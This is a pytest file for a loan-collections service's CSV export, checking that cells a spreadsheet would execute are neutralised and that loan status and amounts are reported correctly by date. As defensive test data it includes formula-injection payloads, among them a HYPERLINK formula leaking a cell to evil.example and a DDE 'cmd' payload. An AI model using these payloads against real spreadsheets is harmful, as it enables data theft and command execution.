"""The accounts export (DESIGN.md §5): safe to open in a spreadsheet, one row per loan known on
the date, on both databases."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from service.assignment import queues
from service.assignment.run import strategies_for
from service.cob.nightly import Planning, run_cob
from service.db.models import Loan, LoanSnapshot, LoanStatus, Role
from service.errors import NotFound
from service.ingest.pipeline import ImportOptions, import_directory
from service.portfolio.exports import (
    AccountStatus,
    Column,
    CsvTable,
    account_rows,
    account_status,
)
from service.settings import Settings
from tests.conftest import make_user

AS_OF = dt.date(2026, 11, 24)
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "@SUM(1)", "+1", "-2")


def write_csv(directory: Path, name: str, header: list[str], rows: list[list[str]]) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    with (directory / name).open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(header)
        writer.writerows(rows)


async def export(engine: AsyncEngine, as_of: dt.date) -> list[dict[str, str]]:
    text = "".join([chunk async for chunk in account_rows(engine, as_of)])
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_cells_a_spreadsheet_would_run_are_neutralised_and_amounts_stay_numbers(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    drop = tmp_path / "drop"
    write_csv(
        drop,
        "borrowers.csv",
        ["borrower_ref", "name", "phone"],
        [["=B1", "=cmd|' /C calc'!A0", "13800138000"]],
    )
    loans = [*FORMULAS, "L-plain"]
    write_csv(
        drop,
        "loans.csv",
        ["loan_ref", "borrower_ref", "product", "currency", "principal", "annual_rate",
         "penalty_rate_daily", "disbursed_on", "maturity_on"],
        [[ref, "=B1", "@cash", "CNY", "1000.50", "0.05", "0.0005", "2026-01-05", "2026-10-01"]
         for ref in loans],
    )  # fmt: skip
    write_csv(
        drop,
        "installments.csv",
        ["loan_ref", "seq", "due_on", "principal_due", "interest_due"],
        [[ref, "1", "2026-10-01", "1000.50", "12.25"] for ref in loans],
    )
    report = await import_directory(engine, drop, ImportOptions(default_region="CN"))
    assert (report.status, report.error_count) == ("completed", 0)
    # A tab or carriage return cannot open an imported reference (the import trims them); a
    # queue's or a collector's name can carry one into the file.
    registry = strategies_for(settings)
    await make_user(engine, "\rcollector", Role.collector)
    async with engine.begin() as conn:
        await queues.create_queue(
            conn, registry, name="\tEverything", kind="collector", routing={}, position=1
        )
        await queues.add_member(conn, "\tEverything", "\rcollector")
    await run_cob(engine, AS_OF, settings.cob_config(), planning=Planning(registry, settings))

    rows = {row["loan_ref"]: row for row in await export(engine, AS_OF)}

    assert set(rows) == {f"'{ref}" for ref in FORMULAS} | {"L-plain"}
    async with engine.connect() as conn:
        snapshots = {
            ref: snapshot
            for ref, *snapshot in (
                await conn.execute(
                    select(
                        Loan.loan_ref,
                        LoanSnapshot.days_past_due,
                        LoanSnapshot.overdue_amount,
                        LoanSnapshot.outstanding,
                        LoanSnapshot.penalty_accrued,
                    ).join(Loan, Loan.id == LoanSnapshot.loan_id)
                )
            ).all()
        }
    for ref in loans:
        row = rows[f"'{ref}" if ref in FORMULAS else ref]
        assert (row["queue"], row["collector"]) == ("'\tEverything", "'\rcollector")
        dpd, overdue, outstanding, penalty = snapshots[ref]
        assert row["dpd"] == str(dpd) == "54"
        assert (row["overdue_amount"], row["outstanding"], row["penalty_accrued"]) == (
            f"{overdue:.2f}",
            f"{outstanding:.2f}",
            f"{penalty:.2f}",
        )
        assert Decimal(row["overdue_amount"]) == Decimal("1012.75")


def test_the_writer_decides_by_the_column_type_not_by_the_text() -> None:
    table = CsvTable((Column("ref"), Column("days", "integer"), Column("amount", "money")))
    lines = table.header() + table.rows(
        [
            ("-12.50", -3, Decimal("-12.50")),
            ("=1+1", 0, Decimal("0")),
            ("\t@x", 7, Decimal("1234567.5")),
            ("\rx", 1, None),
            ("plain - text", 2, Decimal("0.125")),
        ]
    )
    assert list(csv.reader(io.StringIO(lines, newline=""))) == [
        ["ref", "days", "amount"],
        ["'-12.50", "-3", "-12.50"],
        ["'=1+1", "0", "0.00"],
        ["'\t@x", "7", "1234567.50"],
        ["'\rx", "1", ""],
        ["plain - text", "2", "0.13"],
    ]


COLUMNS = [
    "loan_ref", "dpd", "bucket", "amount_tier", "overdue_amount", "outstanding",
    "penalty_accrued", "classification", "queue", "collector", "status",
]  # fmt: skip


DISBURSED = {
    "L-OPEN": "2026-01-05",
    "L-PAID": "2026-01-05",
    "L-LATE": "2026-01-05",
    "L-NEW": "2026-03-01",
}
PAID = {"L-PAID": "2026-02-10", "L-LATE": "2026-02-20"}


async def _lender(
    engine: AsyncEngine,
    settings: Settings,
    tmp_path: Path,
    loans: tuple[str, ...] = tuple(DISBURSED),
) -> Planning:
    """Loans of 150,000 (tier M), one installment each due 2026-02-01 (L-NEW: 2026-04-01);
    L-PAID is paid in full on 2026-02-10, L-LATE on 2026-02-20 (the payments are imported, so
    the next close of business finds them). One queue, one collector."""
    drop = tmp_path / "lender"
    write_csv(drop, "borrowers.csv", ["borrower_ref", "name", "phone"], [["B1", "张三", ""]])
    write_csv(
        drop,
        "loans.csv",
        ["loan_ref", "borrower_ref", "product", "currency", "principal", "annual_rate",
         "penalty_rate_daily", "disbursed_on", "maturity_on"],
        [[ref, "B1", "cash", "CNY", "150000", "0.05", "0.0005", DISBURSED[ref], "2026-04-01"]
         for ref in loans],
    )  # fmt: skip
    write_csv(
        drop,
        "installments.csv",
        ["loan_ref", "seq", "due_on", "principal_due", "interest_due"],
        [[ref, "1", "2026-04-01" if ref == "L-NEW" else "2026-02-01", "150000", "100"]
         for ref in loans],
    )  # fmt: skip
    registry = strategies_for(settings)
    await make_user(engine, "wang", Role.collector)
    async with engine.begin() as conn:
        await queues.create_queue(
            conn, registry, name="Early", kind="collector", routing={}, position=1
        )
        await queues.add_member(conn, "Early", "wang")
    await _import(engine, drop)
    return Planning(registry, settings)


async def _import(engine: AsyncEngine, drop: Path, refresh_as_of: dt.date | None = None) -> None:
    report = await import_directory(
        engine, drop, ImportOptions(default_region="CN", refresh_as_of=refresh_as_of)
    )
    assert (report.status, report.error_count) == ("completed", 0)


async def _pay(engine: AsyncEngine, tmp_path: Path, refresh_as_of: dt.date | None) -> None:
    drop = tmp_path / "payments"
    write_csv(
        drop,
        "payments.csv",
        ["payment_ref", "loan_ref", "paid_on", "amount"],
        [[f"P-{ref}", ref, day, "200000"] for ref, day in PAID.items()],
    )
    await _import(engine, drop, refresh_as_of)


def _cob(settings: Settings, planning: Planning) -> Any:
    async def run(engine: AsyncEngine, *days: dt.date) -> None:
        for day in days:
            await run_cob(engine, day, settings.cob_config(), planning=planning)

    return run


def _ended(row: dict[str, str]) -> tuple[str, ...]:
    return tuple(row[c] for c in ("status", "dpd", "bucket", "overdue_amount", "outstanding",
                                  "penalty_accrued"))  # fmt: skip


ENDED = ("closed", "0", "M0", "0.00", "0.00", "0.00")


async def test_loans_closed_before_the_date_are_in_the_export_with_their_status(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    cob = _cob(settings, await _lender(engine, settings, tmp_path))
    await cob(engine, dt.date(2026, 2, 5), dt.date(2026, 2, 8), dt.date(2026, 2, 25))
    # Paid before 25 February, posted after its close of business: positions brought to 1 March.
    await _pay(engine, tmp_path, refresh_as_of=dt.date(2026, 3, 1))

    rows = await export(engine, dt.date(2026, 2, 25))

    assert list(rows[0]) == COLUMNS
    assert [row["loan_ref"] for row in rows] == ["L-LATE", "L-OPEN", "L-PAID"]  # not L-NEW yet
    by_ref = {row["loan_ref"]: row for row in rows}
    # Closed before the date: nothing owed; the tier, class, queue and collector of its last
    # close of business up to its closing day (8 February: 7 days overdue, tier M).
    for ref in PAID:
        assert _ended(by_ref[ref]) == ENDED
        assert (by_ref[ref]["amount_tier"], by_ref[ref]["classification"]) == (
            "M", "special_mention",
        )  # fmt: skip
        assert (by_ref[ref]["queue"], by_ref[ref]["collector"]) == ("Early", "wang")
    assert by_ref["L-OPEN"]["status"] == "open"
    assert (by_ref["L-OPEN"]["dpd"], by_ref["L-OPEN"]["bucket"]) == ("24", "M1")
    assert Decimal(by_ref["L-OPEN"]["outstanding"]) > Decimal("150100")

    # Before they closed, they were open.
    early = {row["loan_ref"]: row for row in await export(engine, dt.date(2026, 2, 8))}
    assert {ref: row["status"] for ref, row in early.items()} == {
        "L-LATE": "open", "L-OPEN": "open", "L-PAID": "open",
    }  # fmt: skip
    assert early["L-PAID"]["dpd"] == "7"


async def test_a_close_of_business_that_finds_a_loan_closed_gives_its_last_snapshot(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    cob = _cob(settings, await _lender(engine, settings, tmp_path))
    await _pay(engine, tmp_path, refresh_as_of=None)
    await cob(engine, dt.date(2026, 2, 8), dt.date(2026, 3, 15))

    by_ref = {row["loan_ref"]: row for row in await export(engine, dt.date(2026, 3, 15))}

    assert set(by_ref) == {"L-LATE", "L-NEW", "L-OPEN", "L-PAID"}
    assert {ref: row["status"] for ref, row in by_ref.items()} == {
        "L-OPEN": "open", "L-NEW": "open", "L-PAID": "closed", "L-LATE": "closed",
    }  # fmt: skip
    for ref in PAID:
        # The night of 15 March found it paid off: no principal left (tier S), class normal.
        assert _ended(by_ref[ref]) == ENDED
        assert (by_ref[ref]["amount_tier"], by_ref[ref]["classification"]) == ("S", "normal")
        assert (by_ref[ref]["queue"], by_ref[ref]["collector"]) == ("Early", "wang")
    assert (by_ref["L-NEW"]["dpd"], by_ref["L-NEW"]["bucket"]) == ("0", "M0")


async def test_a_loan_closed_on_the_date_is_closed_with_that_day_figures(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    cob = _cob(settings, await _lender(engine, settings, tmp_path))
    await _pay(engine, tmp_path, refresh_as_of=None)
    await cob(engine, dt.date(2026, 2, 10))

    by_ref = {row["loan_ref"]: row for row in await export(engine, dt.date(2026, 2, 10))}

    assert (by_ref["L-PAID"]["status"], by_ref["L-PAID"]["outstanding"]) == ("closed", "0.00")
    assert Decimal(by_ref["L-PAID"]["penalty_accrued"]) > 0  # what it paid for being late
    assert (by_ref["L-LATE"]["status"], by_ref["L-LATE"]["dpd"]) == ("open", "9")


async def test_a_close_of_business_without_any_open_loan_still_exports_its_closed_loans(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    """No snapshot that day is not "no close of business": the runs say whether one ran."""
    cob = _cob(settings, await _lender(engine, settings, tmp_path, loans=tuple(PAID)))
    await _pay(engine, tmp_path, refresh_as_of=None)
    await cob(engine, dt.date(2026, 2, 8), dt.date(2026, 2, 21), dt.date(2026, 2, 25))
    async with engine.connect() as conn:
        snapshots = await conn.scalar(
            select(func.count())
            .select_from(LoanSnapshot)
            .where(LoanSnapshot.as_of == dt.date(2026, 2, 25))
        )
    assert snapshots == 0

    rows = await export(engine, dt.date(2026, 2, 25))

    assert [(row["loan_ref"], *_ended(row)) for row in rows] == [
        ("L-LATE", *ENDED),
        ("L-PAID", *ENDED),
    ]
    with pytest.raises(NotFound, match="no close of business for 2026-02-24"):
        await export(engine, dt.date(2026, 2, 24))


def test_a_loan_status_on_a_date() -> None:
    day = dt.date(2026, 3, 1)
    yesterday, tomorrow = day - dt.timedelta(days=1), day + dt.timedelta(days=1)
    assert account_status(LoanStatus.open, None, day) is AccountStatus.open
    assert account_status(LoanStatus.closed, day, day) is AccountStatus.closed
    assert account_status(LoanStatus.closed, yesterday, day) is AccountStatus.closed
    assert account_status(LoanStatus.closed, tomorrow, day) is AccountStatus.open
    assert [status.value for status in AccountStatus] == ["open", "closed", "written_off"]


def test_a_phone_column_writes_e164_as_it_is_and_anything_else_as_safe_text() -> None:
    from service.portfolio.exports import Column, CsvTable

    table = CsvTable([Column("phone", "phone")])
    assert table.rows([["+8613800138000"], ["=1+1"], ["+1 (555) 0100"], ["-5"]]) == (
        "+8613800138000\n'=1+1\n'+1 (555) 0100\n'-5\n"
    )
